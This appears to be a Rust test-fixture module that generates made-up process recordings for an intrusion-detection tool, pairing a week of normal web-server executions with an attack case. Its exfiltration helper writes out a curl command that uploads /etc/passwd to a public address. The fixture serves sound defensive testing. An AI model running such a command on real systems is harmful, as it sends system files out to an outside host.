//! Made-up recordings.

use std::io::Write;
use std::path::PathBuf;

use flate2::{Compression, write::GzEncoder};
use serde_json::{Map, Value, json};
use tempfile::TempDir;

/// A recorded moment from which these recordings count: 2026-03-02, 00:00:00 UTC, a Monday.
pub(crate) const START: f64 = 1_772_409_600.0;

/// Seconds in a day.
pub(crate) const DAY: f64 = 86_400.0;

/// One line of a recording.
#[derive(Debug, Clone)]
pub(crate) struct Line(Map<String, Value>);

/// An execution: `parent > args[0]'s basename`, with these arguments.
pub(crate) fn line(workload: &str, parent: &str, args: &[&str]) -> Line {
    let name = args[0].rsplit('/').next().unwrap_or_default();
    let Value::Object(keys) = json!({
        "workload": workload, "parent": parent, "grandparent": "systemd", "name": name, "uid": 33, "args": args,
    }) else {
        unreachable!("it is an object")
    };
    Line(keys)
}

impl Line {
    /// Sets a key.
    pub(crate) fn with(mut self, key: &str, value: impl Into<Value>) -> Self {
        self.0.insert(key.to_owned(), value.into());
        self
    }

    /// At this many seconds after [`START`].
    pub(crate) fn at(self, seconds: f64) -> Self {
        self.with("time", START + seconds)
    }

    /// Labelled as an attack.
    pub(crate) fn attack(self) -> Self {
        self.with("label", "attack")
    }

    /// When, in seconds since the Unix epoch.
    pub(crate) fn seconds(&self) -> f64 {
        self.0["time"].as_f64().expect("it was set")
    }

    pub(crate) fn to_json(&self) -> String {
        Value::Object(self.0.clone()).to_string()
    }
}

/// The lines of a recording as text.
pub(crate) fn text(lines: &[Line]) -> String {
    lines.iter().map(|line| line.to_json() + "\n").collect()
}

/// A week of a small web server: enough to be learned, with nothing new after the first hour.
pub(crate) fn web_week(workload: &str) -> Vec<Line> {
    let mut lines = Vec::new();
    for hour in 0..7 * 24 {
        let at = f64::from(hour) * 3600.0;
        lines.extend([
            line(workload, "cron", &["sh", "-c", "/opt/mon/check.sh 8080 >/dev/null"]).at(at),
            line(workload, "sh", &["/opt/mon/check.sh", "8080"]).at(at + 0.1),
            line(workload, "check.sh", &["curl", "-s", "http://127.0.0.1:8080/healthz"]).at(at + 0.2),
            line(workload, "php-fpm", &["sh", "-c", "convert /srv/up/a.png -resize 50% /srv/up/b.png"])
                .at(at + 60.0),
            line(workload, "sh", &["convert", "/srv/up/a.png", "-resize", "50%", "/srv/up/b.png"])
                .at(at + 60.1),
            line(workload, "logrotate", &["nginx", "-s", "reopen"]).at(at + 90.0),
        ]);
    }
    lines
}

/// What no web server does: a shell of nginx that sends a file to a public address.
pub(crate) fn exfiltration(workload: &str) -> Line {
    let script = "curl -s --upload-file /etc/passwd http://203.0.113.9/drop";
    line(workload, "nginx", &["sh", "-c", script])
}

/// Files of one test.
pub(crate) struct Folder(TempDir);

impl Folder {
    pub(crate) fn new() -> Self {
        Self(TempDir::new().expect("a directory for the test"))
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    /// Writes a file.
    pub(crate) fn file(&self, name: &str, content: impl AsRef<[u8]>) -> PathBuf {
        let path = self.path(name);
        std::fs::write(&path, content).expect("the test's directory is writable");
        path
    }

    /// Writes a recording.
    pub(crate) fn recording(&self, name: &str, lines: &[Line]) -> PathBuf {
        self.file(name, text(lines))
    }
}

pub(crate) fn gzip(content: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(content).and_then(|()| encoder.finish()).expect("memory can be written")
}
